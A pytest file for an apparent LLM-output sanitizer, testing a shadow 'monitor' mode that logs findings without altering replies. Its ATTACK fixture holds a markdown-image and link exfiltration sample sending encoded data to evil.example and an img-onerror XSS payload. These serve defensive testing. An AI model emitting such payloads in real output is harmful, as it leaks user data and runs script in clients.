"""Shadow mode (`Policy(mode="monitor")`): replies pass unchanged, byte for byte, and
every finding is the one enforce mode makes, marked `enforced=False`; loud about it."""

from __future__ import annotations

import asyncio
import io
import json
import logging
import shutil
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from backend import MEDIA_TYPES, State, build
from backend import STREAMS as BACKEND_STREAMS
from rendersafe import Policy, Sanitizer, asanitize_stream, sanitize_stream
from rendersafe.audit import AuditLog, AuditRecord, JsonlSink
from rendersafe.cli import run
from rendersafe.config import load_policy
from rendersafe.findings import Finding
from rendersafe.middleware import RenderSafeMiddleware
from servers import Server
from soup import EVIL, soup

TRANSCRIPTS = Path(__file__).parent.parent / "fixtures" / "transcripts"
ENFORCE = Sanitizer(Policy())
MONITOR = Sanitizer(Policy(mode="monitor"))
FUZZ = settings(
    max_examples=200,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow],
)
ATTACK = (
    f"Look: ![x]({EVIL}) and [y](https://evil.example/?q=c2VjcmV0IGRhdGE) "
    "<img src=x onerror=alert(1)>\n"
)


def _same(findings: tuple[Finding, ...]) -> list[dict[str, object]]:
    """The findings without their `enforced` flag: what, why and where."""
    return [f.model_dump(exclude={"enforced"}) for f in findings]


@FUZZ
@given(soup)
def test_monitor_returns_the_input_with_the_findings_enforce_makes(text: str) -> None:
    shadow, enforced = MONITOR.run(text), ENFORCE.run(text)
    assert shadow.text == text
    assert _same(shadow.findings) == _same(enforced.findings)
    assert all(not f.enforced for f in shadow.findings)
    assert all(f.enforced for f in enforced.findings)


@FUZZ
@given(soup, st.integers(min_value=1, max_value=9))
def test_a_monitor_stream_passes_every_chunk_at_once(text: str, size: int) -> None:
    stream = MONITOR.stream()
    for start in range(0, len(text), size):
        chunk = text[start : start + size]
        assert stream.feed(chunk) == chunk  # nothing held back
        assert stream.held == 0
    assert stream.close() == ""
    assert _same(stream.findings) == _same(ENFORCE.run(text).findings)
    assert all(not f.enforced for f in stream.findings)


def test_the_attack_is_found_and_not_removed() -> None:
    result = MONITOR.run(ATTACK)
    assert result.text == ATTACK
    assert {f.construct for f in result.findings} >= {"image", "html"}
    assert result.changed  # findings are what `changed` reports, even unenforced


def test_stream_helpers_pass_the_text_through() -> None:
    policy = Policy(mode="monitor")
    pieces = [ATTACK[i : i + 5] for i in range(0, len(ATTACK), 5)]
    assert list(sanitize_stream(iter(pieces), policy)) == pieces

    async def chunks() -> AsyncIterator[str]:
        for piece in pieces:
            yield piece

    async def collect() -> list[str]:
        return [piece async for piece in asanitize_stream(chunks(), policy)]

    assert asyncio.run(collect()) == pieces


def test_bytes_fed_come_back_as_their_text() -> None:
    stream = MONITOR.stream()
    data = ATTACK.encode() + "é".encode()
    out = "".join(stream.feed_bytes(data[i : i + 1]) for i in range(len(data)))
    assert out + stream.close() == ATTACK + "é"


def test_too_large_or_failing_is_recorded_not_raised(tmp_path: Path) -> None:
    records: list[AuditRecord] = []
    with AuditLog([records.append]) as audit:
        shadow = Sanitizer(Policy(mode="monitor", max_input_chars=1000), audit=audit)
        big = "x" * 2000
        assert shadow.run(big).text == big
    errors = [r for r in records if r.event == "error"]
    assert len(errors) == 1
    assert errors[0].enforced is False
    assert "InputTooLarge" in (errors[0].message or "") or "2000" in (errors[0].message or "")


def test_audit_records_say_not_enforced(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    with AuditLog([JsonlSink(path)]) as audit:
        Sanitizer(Policy(mode="monitor"), audit=audit).run(ATTACK, context={"c": "1"})
        Sanitizer(Policy(), audit=audit).run(ATTACK, context={"c": "2"})
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert lines
    assert {line["enforced"] for line in lines if line["context"] == {"c": "1"}} == {False}
    assert {line["enforced"] for line in lines if line["context"] == {"c": "2"}} == {True}


def test_a_warning_once_per_sanitizer(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="rendersafe"):
        Sanitizer(Policy(mode="monitor"))
        Sanitizer(Policy())
    warned = [r for r in caplog.records if r.name == "rendersafe" and "shadow mode" in r.message]
    assert len(warned) == 1
    assert warned[0].levelno == logging.WARNING


def test_mode_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RENDERSAFE_MODE", "monitor")
    assert load_policy(None).mode == "monitor"


class Served:
    """The fake backend served twice: as it is, and behind the middleware in monitor
    mode, with what the audit log got."""

    def __init__(self) -> None:
        self.records: list[AuditRecord] = []
        self.audit = AuditLog([self.records.append])
        policy = Policy(mode="monitor", audit_required=True)
        shadowed = RenderSafeMiddleware(build(State()), policy=policy, audit=self.audit)
        enforcing = RenderSafeMiddleware(build(State()), policy=Policy(), audit=self.audit)
        self.plain, self.shadowed = Server(build(State())), Server(shadowed)
        self.enforcing = Server(enforcing)

    def written(self, request_id: str, *, events: int = 0) -> list[AuditRecord]:
        """The records of one request. The client may see the end of the response before
        the work on its copy is done (nothing waits for it): wait for `events` records."""
        deadline = time.monotonic() + 5
        while True:
            self.audit.flush()
            mine = [r for r in self.records if r.source.request_id == request_id]
            if len(mine) >= events or time.monotonic() > deadline:
                return mine
            time.sleep(0.02)


@pytest.fixture(scope="module")
def served() -> Iterator[Served]:
    both = Served()
    with both.plain, both.shadowed, both.enforcing:
        yield both
    both.audit.close()


def _raw(url: str, request_id: str) -> tuple[int, dict[str, str], bytes]:
    with (
        httpx.Client(timeout=10) as client,
        client.stream("GET", url, headers={"x-request-id": request_id}) as response,
    ):
        body = b"".join(response.iter_raw())
        headers = {k: v for k, v in response.headers.items() if k not in ("date", "server")}
        return response.status_code, headers, body


def _what(records: list[AuditRecord]) -> list[tuple[object, ...]]:
    return sorted(
        (r.event, r.construct, r.action, r.reasons, r.line, r.column, r.url) for r in records
    )


BODIES = sorted(p.name for p in BACKEND_STREAMS.iterdir() if p.suffix in MEDIA_TYPES)
QUERIES = ["", "?chunk=1", "?chunk=7", "?whole=1"]


@pytest.mark.parametrize("query", QUERIES)
@pytest.mark.parametrize("name", BODIES)
def test_monitor_middleware_forwards_every_format_byte_for_byte(
    served: Served, name: str, query: str
) -> None:
    path = f"/v1/stream/{name}{query}"
    request_id = f"shadow-{name}{query}"
    assert _raw(served.shadowed.url + path, request_id) == _raw(served.plain.url + path, "p")
    attack = "attacker.example" in (BACKEND_STREAMS / name).read_text()
    # Enforce mode writes a response's records before the client sees its end; shadow
    # mode works on its copy after the client has each message: wait for as many.
    _raw(served.enforcing.url + path, f"enforce-{request_id}")
    enforced = served.written(f"enforce-{request_id}", events=1 if attack else 0)
    records = served.written(request_id, events=len(enforced))
    assert [r for r in records if r.event == "error"] == []
    if attack:
        assert [r for r in records if r.event == "finding"], "the findings are recorded"
    assert _what(records) == _what(enforced)
    assert all(r.enforced for r in enforced)
    assert all(r.enforced is False for r in records)


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("/v1/html", "content type"),
        ("/v1/br", "content-encoding"),
        ("/v1/malformed", "JSON"),
        ("/v1/gzip/openai_chat.sse", None),
        ("/v1/image", None),
        ("/health", None),
    ],
)
def test_what_enforce_mode_refuses_goes_out_unchanged(
    served: Served, path: str, why: str | None
) -> None:
    request_id = f"shadow-refused-{path}"
    got = _raw(served.shadowed.url + path, request_id)
    assert got == _raw(served.plain.url + path, "p")
    assert got[0] == 200
    errors = [r for r in served.written(request_id, events=why is not None) if r.event == "error"]
    if why is None:
        assert errors == []
    else:
        assert len(errors) == 1, errors
        assert why in (errors[0].message or "")
        assert errors[0].enforced is False
        assert "went out unchanged" in (errors[0].message or "")


def test_an_app_error_mid_stream_is_the_servers_as_without_the_middleware(
    served: Served,
) -> None:
    def fetch(url: str) -> tuple[bytes, str]:
        got = b""
        with httpx.Client(timeout=10) as client:
            try:
                with client.stream("GET", url + "/v1/boom-mid") as response:
                    for piece in response.iter_raw():
                        got += piece
            except httpx.HTTPError as exc:
                return got, type(exc).__name__
        return got, ""

    assert fetch(served.shadowed.url) == fetch(served.plain.url)


def test_the_middleware_warns_once(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="rendersafe"):
        RenderSafeMiddleware(build(State()), policy=Policy(mode="monitor"))
    assert len([r for r in caplog.records if "shadow mode" in r.message]) == 1


def _tree(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()
    }


def test_the_scanner_in_monitor_mode_reports_and_writes_no_fix(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work = tmp_path / "logs"
    shutil.copytree(TRANSCRIPTS, work)
    before = _tree(work)
    monkeypatch.setenv("RENDERSAFE_MODE", "monitor")
    report = tmp_path / "report.json"
    audit = tmp_path / "audit.jsonl"
    args = [
        "scan",
        str(work),
        "--in-place",
        "--quiet",
        "--json",
        str(report),
        "--audit",
        str(audit),
    ]
    out, err = io.StringIO(), io.StringIO()
    assert run(args, stdin=io.StringIO(""), stdout=out, stderr=err) == 1  # findings reported
    assert json.loads(report.read_text())["summary"]["findings"] > 0
    assert _tree(work) == before  # not one byte rewritten
    records = [json.loads(line) for line in audit.read_text().splitlines()]
    assert records
    assert {r["enforced"] for r in records} == {False}
    fixed = tmp_path / "fixed"
    assert run(["scan", str(work), "--fix", str(fixed), "--quiet"], stdout=out, stderr=err) == 1
    assert not fixed.exists() or _tree(fixed) == {}  # no fixed copy at all


def test_a_client_that_leaves_is_recorded_not_enforced(served: Served) -> None:
    with (
        httpx.Client(timeout=10) as client,
        client.stream(
            "GET", served.shadowed.url + "/v1/forever", headers={"x-request-id": "shadow-gone"}
        ) as response,
    ):
        for _ in response.iter_raw():
            break
    (gone,) = [r for r in served.written("shadow-gone", events=1) if r.event == "disconnect"]
    assert gone.enforced is False


def test_a_broken_audit_log_holds_nothing_back_in_monitor_mode() -> None:
    def full_disk(record: AuditRecord) -> None:
        raise OSError(28, "No space left on device")

    audit = AuditLog([full_disk], retry_interval=60)
    policy = Policy(mode="monitor", audit_required=True)
    app = RenderSafeMiddleware(build(State()), policy=policy, audit=audit)
    path = "/v1/stream/openai_chat.sse"
    with Server(app) as shadowed, Server(build(State())) as plain:
        first = _raw(shadowed.url + path, "broken-1")
        audit.flush()
        assert audit.broken
        assert first == _raw(shadowed.url + path, "broken-2") == _raw(plain.url + path, "p")
    audit.close()
